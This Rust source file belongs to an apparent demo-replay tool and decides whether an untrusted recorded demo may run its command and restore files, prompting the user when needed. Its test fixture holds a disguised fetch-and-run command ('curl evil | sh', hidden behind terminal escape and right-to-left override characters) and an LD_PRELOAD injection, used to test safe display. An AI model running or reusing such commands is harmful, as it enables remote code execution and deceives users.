//! Permission of a demo to do what only trusted demos may: run its own command, bring its own files.

use std::fmt::Write;
use std::fs::File;
use std::io::{self, IsTerminal};
use std::path::Path;

use prony_demo::Header;
use prony_replay::{KnownDemos, KnownError, Privilege, TrustedDemos, code_variables, recorded_command};
use prony_text::Untrusted;

use crate::cli::TrustArgs;
use crate::failure::Failure;

/// True when this user recorded the demo on this machine. Says so when that cannot be known.
pub fn is_known(demo: &Path) -> bool {
    let known = KnownDemos::of_user().and_then(|list| list.contains(&File::open(demo)?));
    known.unwrap_or_else(|error| {
        // Without a home nothing was ever recorded.
        if !matches!(error, KnownError::NoHome) {
            eprintln!("warning: the list of demos recorded here cannot be used: {error}");
        }
        false
    })
}

/// True when a hash or a key in the user's configuration vouches for the demo. Says so when that cannot be known.
pub fn is_listed(demo: &Path) -> bool {
    let Some(list) = TrustedDemos::of_user() else { return false };
    let Ok(file) = File::open(demo) else { return false };
    list.contains(demo, &file).unwrap_or_else(|error| {
        eprintln!("warning: the list of trusted demos cannot be used: {error}");
        false
    })
}

/// Puts a demo on the list of those that were recorded here: one that was made of such a demo.
pub fn note(demo: &Path) {
    if let Err(error) = KnownDemos::of_user().and_then(|list| list.add(&File::open(demo)?)) {
        eprintln!("warning: {} cannot be added to the list of demos recorded here: {error}", demo.display());
    }
}

/// Finds out whether the demo is to be trusted, and prompts on a terminal where needed; `build`: the user named a
/// command.
///
/// # Errors
/// When it has to be, and is not.
pub fn of(demo: &Path, header: &Header, build: bool, args: &TrustArgs) -> Result<bool, Failure> {
    if args.trust_demo {
        return Ok(true);
    }
    let Some(privilege) = Privilege::of(header, build) else { return Ok(false) };
    if is_known(demo) || is_listed(demo) {
        // The replay looks it up again, in the very file that it reads.
        return Ok(false);
    }
    match is_confirmed(&question(demo, header, build)) {
        true => Ok(true),
        false => Err(Failure::not_trusted(demo, &privilege)),
    }
}

fn question(demo: &Path, header: &Header, build: bool) -> String {
    let mut out = format!("{} was not recorded by you on this machine. It\n", demo.display());
    if !build {
        let _ = writeln!(out, "  runs           {}", recorded_command(header));
        let _ = writeln!(out, "  in             {}", shown(&header.cwd));
        let variables = code_variables(header);
        if !variables.is_empty() {
            let _ = writeln!(out, "  with           {}", variables.join(", "));
        }
    }
    if !header.state_directories.is_empty() {
        let directories: Vec<String> = header.state_directories.iter().map(|path| shown(path)).collect();
        let _ = writeln!(out, "  has files for  {}", directories.join(", "));
    }
    out + "Continue? [y/N] "
}

fn is_confirmed(question: &str) -> bool {
    if !io::stdin().is_terminal() || !io::stderr().is_terminal() {
        return false;
    }
    eprint!("{question}");
    let mut answer = String::new();
    io::stdin().read_line(&mut answer).is_ok() && matches!(answer.trim(), "y" | "Y" | "yes")
}

/// The options that give the build these variables as they were recorded. The warnings of a replay name all of them.
pub fn keep_options(names: &[String]) -> String {
    const NAMED_MOST: usize = 3;
    match names.len() {
        0..=NAMED_MOST => names.iter().map(|name| format!("--keep-variable {name}")).collect::<Vec<_>>().join(" "),
        many => format!("--keep-variable NAME for each of the {many} that it needs"),
    }
}

/// Bytes of a demo on a terminal.
fn shown(bytes: &[u8]) -> String {
    Untrusted::bytes(bytes).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn header() -> Header {
        Header {
            argv: vec![b"sh".to_vec(), b"-c".to_vec(), b"\x1b[2Jcurl evil | sh\rmake \xe2\x80\xaetest".to_vec()],
            cwd: b"/tmp/x\n".to_vec(),
            environment: vec![(b"LD_PRELOAD".to_vec(), b"/x.so".to_vec()), (b"HOME".to_vec(), b"/".to_vec())],
            state_directories: vec![b"/etc".to_vec(), b"/srv/x".to_vec()],
            ..Header::default()
        }
    }

    #[test]
    fn the_question_shows_what_would_be_done() {
        let (demo, header) = (Path::new("x.demo"), header());
        insta::assert_snapshot!("question", question(demo, &header, false));
        insta::assert_snapshot!("question_of_state", question(demo, &header, true));
    }

    #[test]
    fn what_is_not_trusted_is_named_with_the_next_step() {
        let demo = Path::new("x.demo");
        let of = |build| Privilege::of(&header(), build).expect("it has a command and state");
        let failures = format!("{}\n{}", Failure::not_trusted(demo, &of(false)), Failure::not_trusted(demo, &of(true)));
        insta::assert_snapshot!("not_trusted", failures);
    }
}
